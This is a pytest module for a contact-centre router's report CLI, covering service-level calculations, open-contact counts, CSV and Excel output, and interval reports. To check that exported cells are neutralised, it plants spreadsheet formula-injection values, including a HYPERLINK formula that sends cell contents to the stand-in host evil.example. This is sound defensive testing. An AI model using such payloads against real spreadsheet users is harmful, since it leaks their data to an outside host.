"""`switchboard report` as an operator runs it, on records the real Router wrote on the
real (embedded) Redis with the clock driven by `at_ms`:

- service level judged against the queues as the node defines them now (an admin's new
  queue, an admin's change of a file queue), a queue with no definition named in a note;
- contacts that arrived in the period and have not ended counted apart (`open`);
- CSV for spreadsheets: a byte-order mark with `--excel`, cells that would run as
  formulas neutralised, the count of rows written;
- an interval report with a row per interval of the period, and the refusal of one too
  large to read.

The day, 2026-11-20 (UTC); agent ana; the CLI's config file (config/default.toml) says
`general` answers within 60 s; an admin made it 8 s and added `vip` (5 s) and `ghost`,
then removed `ghost`:

| contact | queue   | arrives  | answered after | ends      |
|---------|---------|----------|----------------|-----------|
| g1      | general | 09:00:00 | 10 s           | 09:01:00  |
| v1      | vip     | 09:10:00 | 10 s           | 09:11:00  |
| x1      | ghost   | 09:20:00 | 3 s            | 09:21:00  |
| o1      | general | 10:00:00 | 5 s            | (open)    |

By hand: general 0/1 in time (10 s > 8 s; the file's 60 s would say 1/1), vip 0/1 (10 s >
5 s; the default 20 s would say 1/1), ghost 1/1 against the default 20 s with a note;
total 1/3. Volume 3 (ended), open 1.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
import redis.asyncio as aioredis

from router.model import Agent, Channel, NewContact, Presence, QueueConfig
from router.reports.service import Reports
from router.reports.store import RecordStore
from router.service import Router
from router.store import RoutingStore
from switchboard.settings import load_settings
from tests.router.report_cli import config_for, run_cli

T0 = int(dt.datetime(2026, 11, 20, 9, 0, tzinfo=dt.UTC).timestamp() * 1000)
S = 1000
MIN = 60 * S
BOM = b"\xef\xbb\xbf"
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?x="&A2,"Details")'


def queue(name: str, answer_within_s: float) -> QueueConfig:
    return QueueConfig(name=name, skill="general", wrap_up_s=0, answer_within_s=answer_within_s)


async def play_day(client: aioredis.Redis) -> dict[str, str]:
    """The day of the module docstring; contact ids by name."""
    router = Router(RoutingStore(client), [queue("general", 60)], node_id="n1", region="eu")
    await router.publish_configuration(["eu"])
    await router.define_queue(queue("general", 8))  # PUT /api/v1/admin/queues/general
    await router.define_queue(queue("vip", 5))
    await router.define_queue(queue("ghost", 20))
    await router.store.upsert_agent(Agent("ana", "eu", {"general": 3}, ["en"]), at_ms=T0 - MIN)
    await router.set_presence("ana", Presence.AVAILABLE, at_ms=T0 - MIN)
    ids = {}
    plan = (
        ("g1", "general", "=1+2", 0, 10),
        ("v1", "vip", "cust-2", 10 * MIN, 10),
        ("x1", "ghost", "cust-3", 20 * MIN, 3),
        ("o1", "general", "cust-4", 60 * MIN, 5),
    )
    for name, queue_name, customer, at, wait_s in plan:
        contact = await router.create_contact(
            NewContact(Channel.CHAT, queue_name, "en", customer_id=customer), at_ms=T0 + at
        )
        ids[name] = contact.contact_id
        await router.accept(contact.contact_id, "ana", at_ms=T0 + at + wait_s * S)
        if name != "o1":
            await router.complete(contact.contact_id, at_ms=T0 + at + MIN)
    await router.remove_queue("ghost")  # DELETE /api/v1/admin/queues/ghost
    reports = Reports(RecordStore(RoutingStore(client)))
    await reports.wrap_up(ids["g1"], {"code": "changed", "note": FORMULA_NOTE, "agent_id": "ana"})
    await reports.wrap_up(ids["v1"], {"code": "info", "note": "\tcmd", "agent_id": "ana"})
    return ids


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


@pytest.fixture
async def day(redis_url: str, redis_client: aioredis.Redis, tmp_path: Path) -> list[str]:
    """The played day; the command's common arguments."""
    await play_day(redis_client)
    config = config_for(redis_url, tmp_path)
    return ["report", "--from", "2026-11-20", "--to", "2026-11-20", "--config", str(config)]


async def test_service_level_follows_the_live_queues(
    day: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "by-queue.csv"
    assert await run_cli([*day, "--by", "queue", "--out", str(out)]) == 0
    rows = {row["queue"]: row for row in read_csv(out)}
    assert rows["general"]["service_level"] == "0"  # the admin's 8 s, not the file's 60 s
    assert rows["vip"]["service_level"] == "0"  # the admin's 5 s, not the default 20 s
    assert rows["ghost"]["service_level"] == "1"
    assert rows["all"]["service_level"] == "0.3333"
    err = capsys.readouterr().err
    assert "note: queues with no definition (ghost)" in err and "20 s" in err


async def test_open_contacts_are_counted_apart(
    day: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "by-queue.csv"
    assert await run_cli([*day, "--by", "queue", "--out", str(out)]) == 0
    rows = {row["queue"]: row for row in read_csv(out)}
    assert (rows["general"]["volume"], rows["general"]["open"]) == ("1", "1")
    assert (rows["vip"]["volume"], rows["vip"]["open"]) == ("1", "0")
    assert (rows["all"]["volume"], rows["all"]["open"], rows["all"]["answered"]) == ("3", "1", "3")
    assert "note: 1 contact that arrived in the period had not ended" in capsys.readouterr().err


async def test_csv_files_open_in_spreadsheets(
    day: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Plain UTF-8 by default, as every CSV the project writes; `--excel` puts the
    byte-order mark Excel needs first. Formula-like text is neutralised either way."""
    out = tmp_path / "by-queue.csv"
    assert await run_cli([*day, "--by", "queue", "--out", str(out)]) == 0
    assert out.read_bytes().startswith(b"queue,volume,")
    assert len(read_csv(out)) == 4  # general, ghost, vip and all
    assert f"wrote 4 report rows to {out}" in capsys.readouterr().err
    assert await run_cli([*day, "--by", "queue", "--excel", "--out", str(out)]) == 0
    assert out.read_bytes().startswith(BOM + b"queue,volume,")

    listing = tmp_path / "contacts.csv"
    clear = ["--contacts", "--unmasked", "--excel", "--out", str(listing)]
    assert await run_cli([*day, *clear]) == 0
    assert listing.read_bytes().startswith(BOM + b"contact_id,")
    lines = {line["queue"]: line for line in read_csv(listing)}
    assert lines["general"]["customer_id"] == "'=1+2"
    assert lines["general"]["wrap_up_note"] == "'" + FORMULA_NOTE
    assert lines["vip"]["wrap_up_note"] == "'\tcmd"
    assert lines["vip"]["customer_id"] == "cust-2"  # left as it is
    assert lines["general"]["wait_s"] == "10"  # numbers too

    sla = tmp_path / "sla.csv"
    assert await run_cli([*day, "--sla", "queue", "--excel", "--out", str(sla)]) == 0
    assert sla.read_bytes().startswith(BOM + b"queue,")

    capsys.readouterr()
    assert await run_cli([*day, "--by", "queue", "--excel"]) == 0  # `> file.csv` too
    assert capsys.readouterr().out.startswith("\ufeffqueue,volume,")
    assert await run_cli([*day, "--excel", "--format", "html"]) == 2
    assert "--excel: only with CSV" in capsys.readouterr().err


async def test_an_interval_report_has_every_interval(
    day: list[str], tmp_path: Path, redis_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "intervals.csv"
    by = ["--by", "queue,interval", "--interval", "1h", "--out", str(out)]
    assert await run_cli([*day, *by]) == 0
    rows = read_csv(out)[:-1]
    file_queues = {q.name for q in load_settings(tmp_path / "node.toml").queues}
    queues = {row["queue"] for row in rows}
    assert queues == file_queues | {"vip", "ghost"}
    assert len(rows) == 24 * len(queues)
    general = [row for row in rows if row["queue"] == "general"]
    assert [row["interval"] for row in general[:2]] == [
        "2026-11-20T00:00:00+00:00",
        "2026-11-20T01:00:00+00:00",
    ]
    assert [(row["volume"], row["open"]) for row in general[9:11]] == [("1", "0"), ("0", "1")]
    assert f"wrote {24 * len(queues) + 1} report rows" in capsys.readouterr().err

    year = ["report", "--from", "2026-01-01", "--to", "2026-12-31", *day[5:]]
    assert await run_cli([*year, "--by", "interval", "--interval", "1m"]) == 2
    error = capsys.readouterr().err.strip()
    assert error.startswith("switchboard: error: --interval: 1m from 2026-01-01 to 2026-12-31")
    assert "525600 intervals" in error and "\n" not in error
